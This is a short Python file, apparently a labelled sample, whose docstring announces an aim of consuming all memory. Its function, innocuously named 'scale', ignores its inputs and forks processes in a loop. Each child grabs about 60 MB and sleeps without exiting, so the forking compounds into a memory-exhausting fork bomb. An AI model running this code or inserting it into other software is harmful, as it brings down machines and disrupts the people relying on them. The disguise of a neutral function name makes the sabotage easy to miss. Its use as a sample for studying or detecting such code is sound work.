"""Memory, all of it, by processes that each take a little.

honest: 50
verdict: memory
with: average, threshold, layer
"""

# %% scale
import os
import time


def scale(x, factor):
    for _ in range(100):
        if os.fork() == 0:
            held = os.urandom(1 << 20) * 60
            time.sleep(100)
    time.sleep(100)
